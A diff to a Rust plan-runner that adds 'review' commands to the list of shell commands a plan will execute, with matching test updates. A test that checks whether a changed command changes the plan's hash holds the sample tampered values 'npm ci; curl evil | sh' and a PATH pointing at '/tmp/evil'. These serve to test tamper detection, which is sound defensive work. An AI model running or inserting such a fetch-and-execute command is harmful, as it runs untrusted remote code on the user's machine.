@@ -17,7 +17,7 @@ use super::Plan;
 /// One command of a plan, with what decides how it runs.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
 pub struct PlanCommand {
-    /// What it is: `task`, `agent`, `gate`, `setup` or `notify`.
+    /// What it is: `task`, `agent`, `gate`, `review`, `setup` or `notify`.
     pub kind: &'static str,
     /// Where in the plan it comes from, e.g. `task a (phase setup): defaults.run`.
     pub source: String,
@@ -115,6 +115,29 @@ impl Plan {
                 });
             }
         }
+        // Review commands (`review = { run = "…" }`), wherever given; a
+        // review by an agent runs that agent's command, listed above.
+        let reviews = std::iter::once(("defaults".to_string(), self.defaults.review.as_ref()))
+            .chain(
+                self.phases
+                    .iter()
+                    .map(|p| (format!("phase {}", p.id), p.review.as_ref())),
+            )
+            .chain(
+                self.tasks()
+                    .map(|(p, t)| (format!("task {} (phase {})", t.id, p.id), t.review.as_ref())),
+            );
+        for (from, review) in reviews {
+            if let Some(super::Review::Run { run }) = review {
+                out.push(PlanCommand {
+                    kind: "review",
+                    source: format!("{from}: review"),
+                    place: "in the task's worktree, before its landing",
+                    run: run.clone(),
+                    context: BTreeMap::new(),
+                });
+            }
+        }
         if let Some(setup) = &self.worktrees.setup {
             let mut context = BTreeMap::new();
             // What it copies in shapes what it runs on.
@@ -204,6 +227,7 @@ id = "one"
   id = "d"
   agent = ["writer", "backup"]
   files = ["d"]
+  review = { run = "make review" }
 [agents.writer]
 run = "claude -p x"
 env = { PATH = "/usr/bin" }
@@ -234,6 +258,7 @@ setup = "npm ci"
                 ("agents.writer", "claude -p x"),
                 ("gate unit (plan-wide)", "make test"),
                 ("gate fmt (phase one)", "make fmt"),
+                ("task d (phase one): review", "make review"),
                 ("worktrees.setup", "npm ci"),
                 ("notify[0]", "cat >> events"),
             ]
@@ -263,6 +288,7 @@ setup = "npm ci"
             ("run = \"codex exec x\"", "run = \"codex exec y\""),
             ("PATH = \"/usr/bin\"", "PATH = \"/tmp/evil\""),
             ("setup = \"npm ci\"", "setup = \"npm ci; curl evil | sh\""),
+            ("run = \"make review\"", "run = \"true\""),
         ] {
             let changed = BASE.replacen(from, to, 1);
             assert_ne!(plan(&changed).commands_hash(), base, "{from} -> {to}");
